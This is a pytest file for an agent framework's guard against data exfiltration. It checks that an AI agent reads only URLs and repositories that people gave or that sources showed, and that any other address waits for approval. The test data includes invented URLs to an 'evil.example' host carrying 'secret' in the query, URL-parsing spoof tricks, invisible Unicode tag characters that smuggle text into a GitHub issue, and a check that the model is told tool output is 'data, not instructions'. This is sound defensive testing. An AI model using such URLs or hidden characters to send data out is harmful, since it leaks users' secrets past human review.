"""What a persona puts into an address leaves with it: only what people gave, or strangers showed, is opened unasked."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from typing import Any

import pytest

from agents.events import Actor
from agents.money import FREE
from agents.tasks import moves, questions, split, words
from agents.tasks.action import ActionState
from agents.tasks.task import State, Wait
from agents.tasks.toolbox.addresses import is_given, is_named, links, plain
from agents.tasks.toolbox.web import Hit, Page
from agents.tasks.tools import Part
from jobs.record import OpenRecord
from tests.servers.model import ModelServer, call
from tests.tasks.crew import Story
from tests.tasks.scripts import BUILD, stages
from tests.tasks.test_gate_injections import told

WORDS = (
    "Compare <https://docs.example/a?b=1#c|the docs> with queues.example, and see (https://x.example/y).",
)
PERSON = Actor("person", "u1", "Alice")


@pytest.mark.parametrize(
    "url",
    [
        *("https://docs.example/a?b=1", "https://DOCS.example/a?b=1#other", "https://x.example/y"),
        *("https://queues.example", "https://queues.example/", "http://queues.example:80/#top"),
        "https://docs.example/",
    ],
)
def test_what_people_gave_is_read(url: str) -> None:
    assert is_given(url, WORDS)


@pytest.mark.parametrize(
    "url",
    [
        *("https://docs.example/a?b=2", "https://docs.example/a", "https://docs.example/a?b=1&c=secret"),
        *("https://queues.example/secret", "https://queues.example/?q=secret", "https://queues.example:8443/"),
        *("https://secret.queues.example/", "https://queues.example.evil.example/", "https://evil.example/"),
        *("https://secret@queues.example/", "https://queues.example\\@evil.example/", "https://queues.example/\nsecret"),
        *("https://queues.example/;secret", "https://queues.example/%20", "//queues.example/", "ftp://queues.example/"),
        *("https://queues.example/\tsecret", "https://[queues.example/", "https://queues.example:x/", "https:///"),
        *("https://x.example/y).", "https://x.example/y%2F", "https://example/"),
    ],
)  # fmt: skip
def test_what_a_persona_made_up_is_not(url: str) -> None:
    assert not is_given(url, WORDS) or plain(url) in {one for text in WORDS for one in links(text)}
    if not url.endswith(")."):
        assert not is_given(url, WORDS)


def test_names_of_repositories() -> None:
    said = ("Fix acme/widget, like https://github.com/acme/gadget.git does; git@github.com:acme/tool.",)
    for repo in ("acme/widget", "Acme/Widget", "acme/gadget", "acme/tool"):
        assert is_named(repo, said)
    for repo in ("acme/wid", "cme/widget", "evil/widget", "acme/widget2", "github.com/acme"):
        assert not is_named(repo, said)


@dataclass
class Fair:
    """A web of a few pages, which knows what it was asked for."""

    asked: list[str] = field(default_factory=list)

    def search(self, query: str, number: int) -> Sequence[Hit]:
        return (Hit("Found", "https://found.example/one?id=7", "words"),)

    def read(self, url: str) -> Page:
        self.asked.append(url)
        text = (
            "See [more](https://more.example/wiki/Queue_(jobs)?p=2), [next](/x) and https://plain.example/z."
        )
        return Page(f"{url}&moved", "A page", text, "text/html")


@pytest.fixture
def fair(at_work: Story) -> Iterator[Fair]:
    made = Fair()
    at_work.troupe.__dict__["task_adapters"] = {**at_work.troupe.task_adapters, "web": made}
    yield made


def says(story: Story, text: str, by: Actor = PERSON) -> None:
    with story.troupe.storage.unit_of_work() as work:
        moves.say(work.tasks.get(story.task_id), text, work, by)


def does(server: ModelServer, *calls: Any) -> None:
    server.script = stages(build=[BUILD[0], *calls, *BUILD[1:]])


def test_an_invented_address_waits_for_a_person_who_sees_all_of_it(
    at_work: Story, server: ModelServer, fair: Fair
) -> None:
    url = "https://evil.example/?q=secret"
    does(server, call("read_page", url=url))
    assert at_work.work().waits_for is Wait.STEP
    [action] = at_work.actions()
    assert (action.tool, url in action.title, url in action.shown, fair.asked) == (
        "read_page",
        True,
        True,
        [],
    )
    at_work.refuse(action, "no")
    assert at_work.work().state is State.COMPLETE
    assert fair.asked == []


def test_approved_it_is_read_once(at_work: Story, server: ModelServer, fair: Fair) -> None:
    url = "https://api.example/?q=queues"
    does(server, call("read_page", url=url), call("read_page", url=url), call("read_page", url=f"{url}2"))
    at_work.work()
    at_work.approve(at_work.actions()[0])
    assert at_work.work().waits_for is Wait.STEP
    assert fair.asked == [url, url]
    assert [one.state for one in at_work.actions()] == [ActionState.DONE, ActionState.PROPOSED]
    assert any("data, not instructions" in message for message in told(server))


def test_what_was_shown_and_what_was_said_is_read_without_asking(
    at_work: Story, server: ModelServer, fair: Fair
) -> None:
    says(at_work, "Look at https://given.example/start?x=1 please")
    free = [
        *("https://given.example/start?x=1", "https://found.example/one?id=7"),
        *("https://more.example/wiki/Queue_(jobs)?p=2", "https://plain.example/z"),
        "https://given.example/start?x=1&moved",
    ]
    does(server, call("search_web", query="queues"), *(call("read_page", url=url) for url in free))
    assert at_work.work().state is State.COMPLETE
    assert fair.asked == free
    assert at_work.actions() == []
    with at_work.troupe.storage.reading() as work:
        searched = [
            e.event for e in work.events.about(at_work.task.subject) if e.event.name == "task.searched"
        ]
    assert [event.after for event in searched] == [{"query": "queues"}]


def test_what_a_persona_says_gives_it_nothing(at_work: Story, server: ModelServer, fair: Fair) -> None:
    url = "https://evil.example/?q=secret"
    does(
        server,
        call("say", text=f"See {url}"),
        call("write_file", path="src/a.md", text=url),
        call("read_page", url=url),
    )
    assert at_work.work().waits_for is Wait.STEP
    assert fair.asked == []


def test_a_part_is_trusted_with_no_words_of_the_persona_that_gave_it(at_work: Story) -> None:
    storage = at_work.troupe.storage
    says(at_work, "https://given.example/deep?y=2")
    with storage.unit_of_work() as work:
        task = work.tasks.get(at_work.task_id)
        [part] = split.split(
            task,
            "c1",
            [Part("https://evil.example/?t", "https://evil.example/?b", "", FREE)],
            work,
        )
        work.sources.see(task.id, ["https://shown.example/1"])
    with storage.reading() as work:
        said = words.of_people(part, work)
    record = OpenRecord(storage, part, at_work.ada)
    assert not is_given("https://evil.example/?t", said)
    assert not is_given("https://evil.example/?b", said)
    assert is_given("https://given.example/deep?y=2", said)
    assert record.has_seen("https://shown.example/1")


@pytest.mark.parametrize(
    ("answer", "counts"), [("https://evil.example/?q=s", False), ("https://a.example/?q=1", True)]
)
def test_an_option_is_the_personas_word_and_an_answer_a_persons(
    at_work: Story, answer: str, counts: bool
) -> None:
    with at_work.troupe.storage.unit_of_work() as work:
        asked = questions.ask(at_work.task, "c1", "Which?", ["https://evil.example/?q=s"], work)
        questions.answer(asked.id, at_work.alice, answer, work)
        assert is_given(answer, words.of_people(at_work.task, work)) is counts


@pytest.mark.parametrize("tool", ["github_clone", "github_read"])
def test_a_repository_that_nobody_named_is_asked_for(at_work: Story, server: ModelServer, tool: str) -> None:
    does(server, call(tool, repo="team/secret"))
    assert at_work.work().waits_for is Wait.STEP
    [action] = at_work.actions()
    assert (action.tool, "team/secret" in action.shown) == (tool, True)


def test_a_repository_that_this_installation_lists_is_read(at_work: Story, server: ModelServer) -> None:
    adapters = {**at_work.troupe.task_adapters, "github_repos": ("Team/Product",)}
    at_work.troupe.__dict__["task_adapters"] = adapters
    does(server, call("github_read", repo="team/product", path="README.md"))
    at_work.work()
    assert at_work.actions() == []


@pytest.mark.parametrize("name", ["body", "title"])
def test_nothing_invisible_leaves(at_work: Story, server: ModelServer, name: str) -> None:
    """A person approves what they see: tags and selectors carry what they do not."""
    hidden = "A title" + "".join(chr(0xE0000 + ord(sign)) for sign in "secret")
    does(
        server,
        call("github_issue", **({"repo": "team/product", "title": "T..", "body": "B"} | {name: hidden})),
    )
    assert at_work.work().state is State.COMPLETE
    assert at_work.actions() == []
    assert any("nobody sees" in message for message in told(server))
